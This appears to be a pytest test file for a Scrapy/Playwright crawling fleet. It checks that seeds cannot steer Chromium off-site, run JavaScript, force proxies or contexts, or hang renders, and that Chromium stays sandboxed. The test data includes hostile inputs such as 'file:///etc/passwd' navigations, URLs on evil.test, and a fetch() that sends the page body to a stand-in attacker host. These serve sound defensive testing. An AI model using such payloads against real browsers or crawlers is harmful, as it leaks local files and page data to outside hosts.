"""Renders that cannot hang or leak: what seeds and payloads may ask of Chromium, browser
contexts, render bounds, retries of failed renders, and Chromium's sandbox.
"""

from __future__ import annotations

import asyncio
import json
import logging
import os
import shutil
import socketserver
import subprocess
import sys
import tempfile
import threading
from collections import Counter
from pathlib import Path
from typing import TYPE_CHECKING, Any

import playwright.async_api as playwright_api
import pytest
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from playwright._impl._errors import TargetClosedError
from scrapy import Request
from scrapy.exceptions import DownloadTimeoutError
from scrapy.settings import Settings
from scrapy.utils.misc import build_from_crawler, load_object
from scrapy.utils.test import get_crawler
from scrapy_playwright.handler import Config as PlaywrightConfig
from scrapy_playwright.page import PageMethod

from project import settings as project_settings
from project.addon import FleetAddon
from project.frontier.config import RetryConfig
from project.frontier.seeds import InvalidSeed, parse_seed
from project.frontier.wire import UnserializableRequestError, decode_request, encode_request
from project.rendering import browser
from project.rendering.browser import LazyBrowserProvider
from project.rendering.config import RenderingConfig, RenderingConfigError, parse_render_rules
from project.rendering.download import FleetDownloadHandler
from project.rendering.handler import RenderTimeoutError
from project.rendering.launch import (
    RENDER_RETRY_EXCEPTIONS,
    PlaywrightFailure,
    RenderingUnavailable,
    chromium_sandboxed,
)
from project.rendering.middleware import RenderingMiddleware
from project.rendering.wire import RULE_META_KEY, allow_page_method, meta_for_wire
from spiders.products import ProductsSpider
from tests.fleet import ROOT

if TYPE_CHECKING:
    import socket
    from collections.abc import Iterator

    import redis

    from tests.fleet import Fleet

SITE = "http://shop.test:8080"


@pytest.fixture
def spider() -> ProductsSpider:
    return ProductsSpider()


def _project_settings(**overrides: Any) -> Settings:
    """The project's settings as a node sees them: settings.py, -s options, then the add-on."""
    settings = Settings()
    settings.setmodule(project_settings, priority="project")
    settings.update(overrides, priority="cmdline")
    FleetAddon().update_settings(settings)
    return settings


def _middleware(**settings: Any) -> RenderingMiddleware:
    crawler = get_crawler(ProductsSpider, settings)
    return build_from_crawler(RenderingMiddleware, crawler)


def _goto(url: Any) -> dict[str, Any]:
    return {"__page_method__": {"method": "goto", "args": [url]}}


def _payload(url: str, *methods: dict[str, Any], **meta: Any) -> str:
    return json.dumps({"url": url, "meta": {"playwright_page_methods": list(methods), **meta}})


# -- page methods on the wire ---------------------------------------------------------------------

OFF_SITE = [
    "file:///etc/passwd",
    "http://127.0.0.1:6379/",
    "http://shop.test:8081/",  # the same host, another port
    "http://shop.test/",  # the default port is another port
    "https://evil.test/",
    "http://shop.test:8080@evil.test:8080/",
    "//evil.test/",
    "/relative",
    "javascript:fetch('http://evil.test/')",
    "data:text/html,<script>1</script>",
    "about:blank",
    "view-source:http://shop.test:8080/",
    "http://[::1/",
    "",
    5,
    None,
]


@pytest.mark.parametrize("target", OFF_SITE, ids=repr)
def test_goto_off_the_requests_site_is_refused(target) -> None:
    meta = {"playwright_page_methods": [PageMethod("goto", target)]}
    with pytest.raises(UnserializableRequestError, match="goto"):
        meta_for_wire(meta, f"{SITE}/product/1")
    # the same in a seed's meta, before it is decoded
    with pytest.raises(UnserializableRequestError, match="goto"):
        meta_for_wire({"playwright_page_methods": [_goto(target)]}, f"{SITE}/product/1")


@pytest.mark.parametrize(
    "method",
    [
        PageMethod("goto", f"{SITE}/product/2"),
        PageMethod("goto", url="https://shop.test:8080/product/2?x=1", timeout=500),
        PageMethod("goto", "HTTP://SHOP.TEST:8080/"),
        PageMethod("reload"),
        PageMethod("go_back"),
        PageMethod("go_forward", wait_until="load"),
        PageMethod("wait_for_url", "http://anywhere.test/**"),  # waits, never navigates
    ],
    ids=repr,
)
def test_navigation_on_the_requests_site_travels(spider, method) -> None:
    request = Request(f"{SITE}/product/1", meta={"playwright_page_methods": [method]})
    copy, _ = decode_request(encode_request(request, spider), spider)
    (decoded,) = copy.meta["playwright_page_methods"]
    assert (decoded.method, decoded.args, decoded.kwargs) == (
        method.method,
        method.args,
        method.kwargs,
    )


@pytest.mark.parametrize("target", ["file:///etc/passwd", "http://127.0.0.1:6379/"])
def test_goto_off_site_fails_at_enqueue_and_in_a_payload(spider, target) -> None:
    request = Request(f"{SITE}/", meta={"playwright_page_methods": [PageMethod("goto", target)]})
    with pytest.raises(UnserializableRequestError, match="leaves the request's site"):
        encode_request(request, spider)
    with pytest.raises(UnserializableRequestError, match="leaves the request's site"):
        decode_request(_payload(f"{SITE}/", _goto(target)), spider)
    raw = json.dumps({"url": f"{SITE}/", "meta": {"playwright_page_methods": [_goto(target)]}})
    with pytest.raises(InvalidSeed, match="leaves the request's site"):
        parse_seed(raw.encode(), 65536)


@pytest.mark.parametrize("name", ["evaluate", "wait_for_function"])
def test_javascript_page_methods_never_travel(spider, name) -> None:
    script = "() => fetch('http://evil.test/?' + document.body.innerText)"
    request = Request(f"{SITE}/", meta={"playwright_page_methods": [PageMethod(name, script)]})
    with pytest.raises(UnserializableRequestError, match="runs JavaScript"):
        encode_request(request, spider)
    payload = _payload(f"{SITE}/", {"__page_method__": {"method": name, "args": [script]}})
    with pytest.raises((TypeError, UnserializableRequestError), match="runs JavaScript"):
        decode_request(payload, spider)
    with pytest.raises(ValueError, match="render rule"):
        allow_page_method(name)


def test_javascript_seed_is_refused_as_a_seed() -> None:
    raw = json.dumps(
        {
            "url": f"{SITE}/",
            "meta": {"playwright_page_methods": [{"__page_method__": {"method": "evaluate"}}]},
        }
    )
    with pytest.raises(InvalidSeed, match="runs JavaScript") as info:
        parse_seed(raw.encode(), 65536)
    assert info.value.code == "meta"


@pytest.mark.parametrize(
    "methods",
    [
        [{"__page_method__": {"method": "goto"}}],  # no URL
        [{"__page_method__": {"method": "goto", "args": [], "kwargs": {"url": ["x"]}}}],
        [{"__page_method__": {"method": "goto", "extra": 1}}],
        [{"__page_method__": "goto"}],
        [{"__page_method__": {"method": "x" * 100_000}}],
        [{"__page_method__": {"method": "screenshot", "kwargs": {"path": "/root/x"}}}],
    ],
)
def test_garbage_page_methods_are_refused_with_a_reason(methods) -> None:
    with pytest.raises(UnserializableRequestError) as info:
        meta_for_wire({"playwright_page_methods": methods}, f"{SITE}/")
    assert len(str(info.value)) < 400


@pytest.mark.parametrize(
    "meta",
    [
        {"playwright_page_methods": "goto"},
        {"playwright_page_methods": 5},
        {"playwright_page_goto_kwargs": "x"},
        {"playwright_page_goto_kwargs": {"url": "file:///etc/passwd"}},
        {"playwright_page_goto_kwargs": {"timeout": 0, "wait_until": "load", "x": 1}},
    ],
    ids=repr,
)
def test_garbage_render_meta_is_refused(meta) -> None:
    with pytest.raises(UnserializableRequestError):
        meta_for_wire(meta, f"{SITE}/")


_json = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=30),
    lambda kids: (
        st.lists(kids, max_size=4) | st.dictionaries(st.text(max_size=8), kids, max_size=4)
    ),
    max_leaves=12,
)
_keys = st.sampled_from(
    [
        "playwright",
        "playwright_context",
        "playwright_page_methods",
        "playwright_page_goto_kwargs",
        "playwright_include_page",
        RULE_META_KEY,
    ]
)
_methods = st.lists(
    st.builds(
        lambda body: {"__page_method__": body},
        _json
        | st.fixed_dictionaries(
            {"method": st.sampled_from(["goto", "evaluate", "click", "reload", "nope"])},
            optional={"args": st.lists(_json | st.text(), max_size=2), "kwargs": _json},
        ),
    ),
    max_size=3,
)


@hypothesis_settings(max_examples=300, deadline=None)
@given(meta=st.dictionaries(_keys, _json | _methods, max_size=4), url=st.text(max_size=40))
def test_any_meta_is_sent_as_is_or_refused_with_a_reason(meta, url) -> None:
    try:
        sent = meta_for_wire(meta, f"{SITE}/{url}")
    except UnserializableRequestError as exc:
        sent, reason = None, str(exc)
    if sent is None:
        assert reason, "a refusal names its reason"
        return
    assert RULE_META_KEY not in sent
    assert set(sent) <= set(meta)


def test_render_rules_may_run_javascript() -> None:
    (rule,) = parse_render_rules(
        {"/p/": [{"method": "evaluate", "args": ["() => window.scrollTo(0, 1e6)"]}]}
    )
    assert [m.method for m in rule.page_methods] == ["evaluate"]
    with pytest.raises(RenderingConfigError, match="not allowed"):
        parse_render_rules({"/p/": [{"method": "add_init_script", "args": ["1"]}]})


def test_what_a_rule_added_is_left_out_on_the_wire_and_added_again(spider) -> None:
    rule = {r"/product/": [{"method": "evaluate", "args": ["() => 1"]}]}
    mw = _middleware(PLAYWRIGHT_RENDER_URLS=rule)
    request = Request(f"{SITE}/product/1", meta={"render_fallback": True})
    mw.process_request(request)
    assert request.meta["playwright"] is True
    assert request.meta[RULE_META_KEY] == [
        "playwright",
        "playwright_context",
        "playwright_page_methods",
    ]

    # A retry sends it back through Redis: as the spider made it, without the rule's JavaScript.
    retry = request.copy()
    retry.meta["retry_times"] = 1
    doc = json.loads(encode_request(retry, spider))
    assert doc["meta"] == {"render_fallback": True, "retry_times": 1}

    again, _ = decode_request(json.dumps(doc), spider)
    mw.process_request(again)
    assert [m.method for m in again.meta["playwright_page_methods"]] == ["evaluate"]


def test_a_forged_rule_marker_only_removes_meta(spider) -> None:
    for marker in (["playwright", 5, {"x": 1}, ["y"]], "playwright", 7, None):
        meta = {RULE_META_KEY: marker, "playwright": True, "keep": 1}
        sent = meta_for_wire(meta, f"{SITE}/")
        assert RULE_META_KEY not in sent
        assert sent["keep"] == 1


# -- browser contexts and process-local meta ------------------------------------------------------


def test_context_outside_the_allow_list_renders_in_the_fleets(caplog) -> None:
    mw = _middleware(PLAYWRIGHT_MAX_CONTEXTS=2, PLAYWRIGHT_CONTEXTS={"login": {}})
    names = ["other", "login", None, "fleet-9", 5, ["x"], "default"]
    requests = [
        Request(f"{SITE}/{i}", meta={"playwright": True, "playwright_context": name})
        for i, name in enumerate(names)
    ]
    with caplog.at_level(logging.WARNING):
        for request in requests:
            mw.process_request(request)
    assert [r.meta["playwright_context"] for r in requests] == [
        "fleet-0",
        "login",
        "fleet-0",
        "fleet-0",
        "fleet-0",
        "fleet-0",
        "fleet-0",
    ]
    assert mw.stats.get_value("playwright/refused/context") == 4
    assert len([r for r in caplog.records if "PLAYWRIGHT_CONTEXTS" in r.getMessage()]) == 1


def test_context_kwargs_of_a_request_are_ignored() -> None:
    mw = _middleware()
    kwargs = {"proxy": {"server": "http://evil.test:3128"}, "offline": True}
    request = Request(f"{SITE}/", meta={"playwright": True, "playwright_context_kwargs": kwargs})
    mw.process_request(request)
    assert "playwright_context_kwargs" not in request.meta
    assert mw.stats.get_value("playwright/refused/context_kwargs") == 1


@pytest.mark.parametrize(("contexts", "maximum"), [({"a": {}}, 1), ({"a": {}, "b": {}}, 2)])
def test_named_contexts_that_leave_no_fleet_context_are_refused(contexts, maximum) -> None:
    settings = Settings({"PLAYWRIGHT_CONTEXTS": contexts, "PLAYWRIGHT_MAX_CONTEXTS": maximum})
    with pytest.raises(RenderingConfigError, match="must be more than"):
        RenderingConfig.from_settings(settings)


@pytest.mark.parametrize("key", ["playwright_include_page", "playwright_page"])
def test_process_local_meta_is_refused_on_the_wire(spider, key) -> None:
    with pytest.raises(UnserializableRequestError, match=key):
        meta_for_wire({key: True}, f"{SITE}/")
    request = Request(f"{SITE}/", meta={"playwright": True, key: True})
    with pytest.raises(UnserializableRequestError, match=key):
        encode_request(request, spider)
    payload = json.dumps({"url": f"{SITE}/", "meta": {"playwright": True, key: True}})
    with pytest.raises(UnserializableRequestError, match=key):
        decode_request(payload, spider)
    with pytest.raises(InvalidSeed, match=key):
        parse_seed(payload.encode(), 65536)


# -- render bounds --------------------------------------------------------------------------------


def test_d4_every_render_is_bounded_by_default() -> None:
    config = RenderingConfig.from_settings(_project_settings())
    assert config.render_timeout == 60.0
    assert config.navigation_timeout == 30000.0
    # scrapy-playwright reads the navigation timeout the add-on wrote.
    assert PlaywrightConfig.from_settings(_project_settings()).navigation_timeout_ms == 30000.0


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("PLAYWRIGHT_RENDER_TIMEOUT", 0),
        ("PLAYWRIGHT_RENDER_TIMEOUT", -1),
        ("PLAYWRIGHT_DEFAULT_NAVIGATION_TIMEOUT", 0),
    ],
)
def test_d4_unbounded_renders_are_refused(name, value) -> None:
    with pytest.raises(RenderingConfigError, match="above 0"):
        RenderingConfig.from_settings(Settings({name: value}))


def test_d4_a_garbage_render_timeout_is_refused() -> None:
    with pytest.raises(RenderingConfigError, match="PLAYWRIGHT_RENDER_TIMEOUT"):
        RenderingConfig.from_settings(Settings({"PLAYWRIGHT_RENDER_TIMEOUT": "soon"}))


def test_d4_a_render_timeout_is_retried_like_a_download_timeout() -> None:
    assert issubclass(RenderTimeoutError, DownloadTimeoutError)
    exceptions = RetryConfig.from_settings(_project_settings()).exceptions
    assert issubclass(RenderTimeoutError, exceptions)


def test_d4_addon_renders_with_the_bounded_handler() -> None:
    """The fleet's handler builds the bounded one at the first render (a real node's renders
    count ``playwright/renders``, which only BoundedPlaywrightHandler does: test_rendering)."""
    handlers = _project_settings().getdict("DOWNLOAD_HANDLERS")
    assert load_object(handlers["http"]) is FleetDownloadHandler
    assert load_object(handlers["https"]) is FleetDownloadHandler


# -- failed renders are retried, then dead-lettered -----------------------------------------------


def test_playwright_errors_are_retried() -> None:
    exceptions = RetryConfig.from_settings(_project_settings()).exceptions
    for error in (playwright_api.Error, playwright_api.TimeoutError, TargetClosedError):
        assert issubclass(error, exceptions), error
    assert {load_object(name) for name in RENDER_RETRY_EXCEPTIONS} == {
        PlaywrightFailure,
        RenderingUnavailable,
    }
    assert issubclass(RenderingUnavailable, exceptions)
    assert isinstance(playwright_api.TimeoutError("late"), PlaywrightFailure)
    assert not isinstance(TimeoutError("not Playwright's"), PlaywrightFailure)


# -- Chromium's sandbox ---------------------------------------------------------------------------


@pytest.mark.parametrize(("euid", "sandboxed"), [(1000, True), (0, False)])
def test_chromium_is_sandboxed_unless_the_node_is_root(monkeypatch, euid, sandboxed) -> None:
    monkeypatch.setattr(browser.os, "geteuid", lambda: euid)
    settings = _project_settings()
    options = settings.getdict("PLAYWRIGHT_LAUNCH_OPTIONS")
    assert "--no-sandbox" not in options["args"]
    assert options["chromium_sandbox"] is sandboxed
    assert chromium_sandboxed(options) is sandboxed
    assert PlaywrightConfig.from_settings(settings).launch_options["chromium_sandbox"] is sandboxed


def test_the_projects_own_sandbox_choice_wins(monkeypatch) -> None:
    monkeypatch.setattr(browser.os, "geteuid", lambda: 1000)
    settings = _project_settings(
        PLAYWRIGHT_LAUNCH_OPTIONS={"chromium_sandbox": False, "args": ["--disable-gpu"]}
    )
    assert settings.getdict("PLAYWRIGHT_LAUNCH_OPTIONS")["chromium_sandbox"] is False
    assert not chromium_sandboxed({"chromium_sandbox": True, "args": ["--no-sandbox"]})


def _launch_and_close(settings: Settings) -> None:
    async def main() -> None:
        provider = LazyBrowserProvider(PlaywrightConfig.from_settings(settings))
        await provider.start()
        browser_ = await provider.launch_browser()
        await browser_.close()
        await provider.close()

    asyncio.run(main())


@pytest.mark.skipif(os.geteuid() != 0, reason="the node must run as root")
def test_root_node_warns_why_chromium_runs_without_sandbox(caplog) -> None:
    settings = _project_settings()
    with caplog.at_level(logging.WARNING, logger="project.rendering.browser"):
        _launch_and_close(settings)
    (record,) = [r for r in caplog.records if r.name == "project.rendering.browser"]
    assert record.levelno == logging.WARNING
    message = record.getMessage()
    assert "without its sandbox" in message
    assert "runs as root" in message
    assert "deploy/systemd" in message


_SANDBOX_PROBE = """
import asyncio, json, os, re
from pathlib import Path
from scrapy.settings import Settings
from scrapy_playwright.handler import Config
from project.config import exported_defaults
from project.rendering.browser import LazyBrowserProvider
from project.rendering.launch import use_system_chromium
from project.rendering.config import RenderingConfig

# What the add-on does for rendering; its other components play no part in a launch.
settings = Settings()
for name, default in exported_defaults(RenderingConfig).items():
    settings.set(name, default, priority="addon")
use_system_chromium(settings)

def seccomp(pid):
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("Seccomp:"):
            return int(line.split()[1])

def descendants():
    children = {}
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            ppid = int((entry / "stat").read_text().rsplit(")", 1)[1].split()[1])
        except (OSError, IndexError):
            continue
        children.setdefault(ppid, []).append(int(entry.name))
    found, todo = [], [os.getpid()]
    while todo:
        for child in children.get(todo.pop(), []):
            found.append(child)
            todo.append(child)
    return found

async def main():
    provider = LazyBrowserProvider(Config.from_settings(settings))
    await provider.start()
    browser = await provider.launch_browser()
    page = await browser.new_page()
    await page.set_content("<p>sandboxed?</p>")
    # Chromium rewrites the command line of its zygote's forks as one string.
    processes = {}
    for pid in descendants():
        try:
            cmd = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\\0", b" ").decode()
            kind = re.search(r"--type=(\\S+)", cmd)
            processes[pid] = {"type": kind[1] if kind else "browser", "seccomp": seccomp(pid),
                              "no_sandbox": "--no-sandbox" in cmd.split()}
        except OSError:
            continue
    await browser.close()
    await provider.close()
    options = settings.getdict("PLAYWRIGHT_LAUNCH_OPTIONS")
    print(json.dumps({"euid": os.geteuid(), "sandbox": options["chromium_sandbox"],
                      "processes": processes}))

asyncio.run(main())
"""


@pytest.mark.crawl
def test_a_non_root_node_renders_in_chromiums_sandbox() -> None:
    """As the shipped units run it: a user other than root, Chromium's renderers sandboxed."""
    argv = [sys.executable, "-c", _SANDBOX_PROBE]
    home = Path(tempfile.mkdtemp(prefix="fleetcrawl-sandbox-"))
    if os.geteuid() == 0:
        # As the units run it: "nobody" stands in for their fleetcrawl user.
        os.chown(home, 65534, 65534)
        argv = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", *argv]
    env = {**os.environ, "HOME": str(home), "PYTHONPATH": str(ROOT)}
    try:
        out = subprocess.run(
            argv, cwd=ROOT, env=env, capture_output=True, text=True, timeout=120, check=False
        )
    finally:
        shutil.rmtree(home, ignore_errors=True)
    assert out.returncode == 0, out.stderr[-3000:]
    probe = json.loads(out.stdout.strip().splitlines()[-1])
    assert probe["euid"] != 0
    assert probe["sandbox"] is True
    assert "without its sandbox" not in out.stderr
    processes = list(probe["processes"].values())
    assert not [p for p in processes if p["no_sandbox"]], processes
    renderers = [p for p in processes if p["type"] == "renderer"]
    assert renderers, processes
    # Each renderer (the page's among them) runs under a seccomp-bpf filter, mode 2.
    assert {p["seccomp"] for p in renderers} == {2}, renderers


# -- real nodes ----------------------------------------------------------------------------------


class _BadServer(socketserver.ThreadingTCPServer):
    """Pages that fail the way the internet does: ``/close`` hangs up, ``/hang`` never answers."""

    daemon_threads = True
    allow_reuse_address = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _BadHandler)
        self.hits: Counter[str] = Counter()
        self.stopping = threading.Event()

    def url(self, path: str) -> str:
        host, port = self.server_address[:2]
        return f"http://{host}:{port}{path}"


class _BadHandler(socketserver.BaseRequestHandler):
    server: _BadServer

    def handle(self) -> None:
        conn: socket.socket = self.request
        conn.settimeout(5)
        try:
            line = conn.recv(65536).split(b"\r\n", 1)[0].decode("latin-1")
        except OSError:
            return
        path = line.split(" ")[1] if line.count(" ") >= 2 else "?"
        path = path.split("?", 1)[0]
        self.server.hits[path] += 1
        if path == "/close":
            return
        if path == "/hang":
            self.server.stopping.wait(120)
            return
        status = "200 OK" if path == "/page" else "404 Not Found"
        body = b"<html><body><p>a page</p></body></html>"
        head = f"HTTP/1.1 {status}\r\nContent-Type: text/html\r\nContent-Length: {len(body)}\r\n"
        conn.sendall(head.encode() + b"Connection: close\r\n\r\n" + body)


@pytest.fixture
def bad_server() -> Iterator[_BadServer]:
    server = _BadServer()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.stopping.set()
    server.shutdown()
    server.server_close()


def _dead_letters(redis_client: redis.Redis, fleet: Fleet) -> list[dict[str, Any]]:
    return [json.loads(raw) for raw in redis_client.lrange(fleet.keys.dead, 0, -1)]


def _assert_pages_closed(fleet: Fleet, index: int = 0) -> None:
    stats = fleet.stats(index)
    # the pages still open are idle ones, closed with their context after the stats
    assert stats.get("playwright/page_count", 0) == stats.get(
        "playwright/page_count/closed", 0
    ) + stats.get("playwright/page_count/idle", 0)


def _products(shop, count: int) -> list[str]:
    return [shop.url(p["url"]) for p in shop.catalogue()["products"][:count]]


@pytest.mark.crawl
def test_failed_renders_are_retried_then_dead_lettered(
    fleet: Fleet, bad_server: _BadServer, redis_client: redis.Redis
) -> None:
    """A page that hangs up and one that never answers: two attempts each, then dead letters."""
    fleet.seed(
        *(
            json.dumps({"url": bad_server.url(path), "meta": {"playwright": True}})
            for path in ("/close", "/hang")
        )
    )
    fleet.start_node(
        RETRY_TIMES=1,
        FRONTIER_RETRY_BACKOFF_BASE=0.1,
        FRONTIER_RETRY_BACKOFF_MAX=0.2,
        PLAYWRIGHT_DEFAULT_NAVIGATION_TIMEOUT=1500,
    )
    assert fleet.wait(120) == [0], fleet.log(0)[-3000:]

    dead = {record["url"]: record for record in _dead_letters(redis_client, fleet)}
    assert set(dead) == {bad_server.url("/close"), bad_server.url("/hang")}
    assert {record["attempts"] for record in dead.values()} == {2}
    assert "ERR_EMPTY_RESPONSE" in dead[bad_server.url("/close")]["error"]
    assert "TimeoutError" in dead[bad_server.url("/hang")]["error"]
    assert fleet.stat(0, "frontier/retry/count") == 2
    assert fleet.stat(0, "frontier/dead") == 2
    assert bad_server.hits["/hang"] == 2
    _assert_pages_closed(fleet)


@pytest.mark.crawl
def test_a_node_whose_browser_cannot_start_loses_no_page(
    fleet: Fleet, make_shop, redis_client: redis.Redis, mongo
) -> None:
    """scrapy-playwright cannot start (its provider fails): plain pages are stored, rendered
    ones go back to the fleet as retries (RenderingUnavailable), then become dead letters with
    the reason; the node tries the start once a minute, not once a render."""
    shop = make_shop(products=3)
    plain, *rendered = _products(shop, 3)
    fleet.seed(plain, *(json.dumps({"url": url, "meta": {"playwright": True}}) for url in rendered))
    fleet.start_node(
        PLAYWRIGHT_BROWSER_PROVIDER="tests.hostile_values.FailingBrowserProvider",
        RETRY_TIMES=1,
        FRONTIER_RETRY_BACKOFF_BASE=0.1,
        FRONTIER_RETRY_BACKOFF_MAX=0.2,
    )
    assert fleet.wait(120) == [0], fleet.log(0)[-3000:]

    assert [doc["url"] for doc in mongo.products.find({})] == [plain]
    dead = {record["url"]: record for record in _dead_letters(redis_client, fleet)}
    assert set(dead) == set(rendered)
    for record in dead.values():
        assert record["attempts"] == 2
        assert "RenderingUnavailable" in record["error"]
        assert "this browser provider never starts" in record["error"]
    assert fleet.stat(0, "playwright/start_failed") == 1
    assert fleet.stat(0, "frontier/retry/reason/RenderingUnavailable") == 2
    assert "Rendering is unavailable on this node for 60 s" in fleet.log(0)


def test_scrapy_playwrights_own_settings_are_checked_at_start() -> None:
    """The handler that reads them is built at the first render: a bad one stops the node."""
    both = {"PLAYWRIGHT_CDP_URL": "http://127.0.0.1:9/", "PLAYWRIGHT_CONNECT_URL": "ws://x/"}
    with pytest.raises(RenderingConfigError, match="not both"):
        RenderingConfig.from_settings(Settings(both))
    for name in ("PLAYWRIGHT_BROWSER_PROVIDER", "PLAYWRIGHT_ABORT_REQUEST",
                 "PLAYWRIGHT_PROCESS_REQUEST_HEADERS"):  # fmt: skip
        with pytest.raises(RenderingConfigError, match=name):
            RenderingConfig.from_settings(Settings({name: "no_such_module.anything"}))
        for hostile in ("nodots", "..relative.Name", "a" * 5000 + ".B", "os.\x00bad.Name"):
            with pytest.raises(RenderingConfigError, match=name):
                RenderingConfig.from_settings(Settings({name: hostile}))
    fine = {"PLAYWRIGHT_BROWSER_PROVIDER": "tests.hostile_values.FailingBrowserProvider",
            "PLAYWRIGHT_PROCESS_REQUEST_HEADERS": None}  # fmt: skip
    RenderingConfig.from_settings(Settings(fine))


@pytest.mark.crawl
def test_d4_render_past_its_bound_is_closed_and_fails_as_a_timeout(
    fleet: Fleet, make_shop, bad_server: _BadServer, redis_client: redis.Redis, mongo
) -> None:
    """A day of wait_for_timeout, and a navigation with its timeout off: both end at the bound."""
    shop = make_shop(products=3)
    slow, good = _products(shop, 2)
    day = {"__page_method__": {"method": "wait_for_timeout", "args": [86_400_000]}}
    fleet.seed(
        json.dumps({"url": slow, "meta": {"playwright": True, "playwright_page_methods": [day]}}),
        json.dumps(
            {
                "url": bad_server.url("/hang"),
                "meta": {"playwright": True, "playwright_page_goto_kwargs": {"timeout": 0}},
            }
        ),
    )
    # One page for the whole node: the render after the two stuck ones needs its slot back.
    fleet.start_node(
        RETRY_TIMES=0,
        PLAYWRIGHT_RENDER_TIMEOUT=3,
        PLAYWRIGHT_MAX_PAGES_PER_CONTEXT=1,
        CONCURRENT_REQUESTS=1,
    )
    fleet.seed(json.dumps({"url": good, "meta": {"playwright": True}}))
    assert fleet.wait(120) == [0], fleet.log(0)[-3000:]

    dead = {record["url"]: record for record in _dead_letters(redis_client, fleet)}
    assert set(dead) == {slow, bad_server.url("/hang")}
    for record in dead.values():
        assert record["error"].startswith("RenderTimeoutError: Rendering"), record
        assert "took longer than 3 seconds" in record["error"]
    stored = [doc["url"] for doc in mongo.products.find({}, {"url": 1})]
    assert stored == [good]
    _assert_pages_closed(fleet)


@pytest.mark.crawl
def test_foreign_context_and_include_page_do_not_wedge_renders(
    fleet: Fleet, make_shop, redis_client: redis.Redis, mongo
) -> None:
    """The old deadlock: one context and one page, a seed naming another context, one keeping
    its page. Before, every render of the node waited for ever; now the crawl ends."""
    shop = make_shop(products=6)
    other, keeper, *plain = _products(shop, 6)
    seeds = [
        {"url": other, "meta": {"playwright": True, "playwright_context": "other"}},
        {"url": keeper, "meta": {"playwright": True, "playwright_include_page": True}},
        *({"url": url, "meta": {"playwright": True}} for url in plain),
    ]
    fleet.seed(*(json.dumps(seed) for seed in seeds))
    fleet.start_node(PLAYWRIGHT_MAX_PAGES_PER_CONTEXT=1, CONCURRENT_REQUESTS=4)
    assert fleet.wait(120) == [0], fleet.log(0)[-3000:]

    stored = {doc["url"]: doc for doc in mongo.products.find({})}
    assert set(stored) == {other, *plain}
    assert all(doc["rendered"] for doc in stored.values())
    (dead,) = _dead_letters(redis_client, fleet)
    assert keeper in dead["url"]
    assert "playwright_include_page" in dead["error"]
    assert fleet.stat(0, "playwright/refused/context") == 1
    assert fleet.stat(0, "playwright/context_count") == 1
    _assert_pages_closed(fleet)


@pytest.mark.crawl
def test_hostile_page_methods_in_seeds_are_dead_lettered(
    fleet: Fleet, make_shop, bad_server: _BadServer, redis_client: redis.Redis, mongo
) -> None:
    """Seeds that open a local file, another port, or post the page with JavaScript."""
    shop = make_shop(products=4)
    to_file, to_port, to_script, on_site = _products(shop, 4)
    canary = bad_server.url("/page")
    script = {
        "__page_method__": {
            "method": "evaluate",
            "args": [f"() => fetch({canary!r} + '?' + document.body.innerText)"],
        }
    }
    seeds = [
        (to_file, [_goto("file:///etc/passwd")]),
        (to_port, [_goto(canary)]),
        (to_script, [script]),
        (on_site, [_goto(on_site + "?again=1")]),
    ]
    fleet.seed(
        *(
            json.dumps({"url": url, "meta": {"playwright": True, "playwright_page_methods": m}})
            for url, m in seeds
        )
    )
    fleet.start_node()
    assert fleet.wait(120) == [0], fleet.log(0)[-3000:]

    assert bad_server.hits == Counter(), "Chromium was steered to another port"
    dead = _dead_letters(redis_client, fleet)
    reasons = {url: d["error"] for url, *_ in seeds[:3] for d in dead if url in d["url"]}
    assert len(dead) == 3
    assert "leaves the request's site" in reasons[to_file]
    assert "leaves the request's site" in reasons[to_port]
    assert "runs JavaScript" in reasons[to_script]
    assert fleet.stat(0, "frontier/seeds/rejected/meta") == 3
    (stored,) = mongo.products.find({})
    assert stored["url"] == on_site + "?again=1"
    assert stored["rendered"] is True
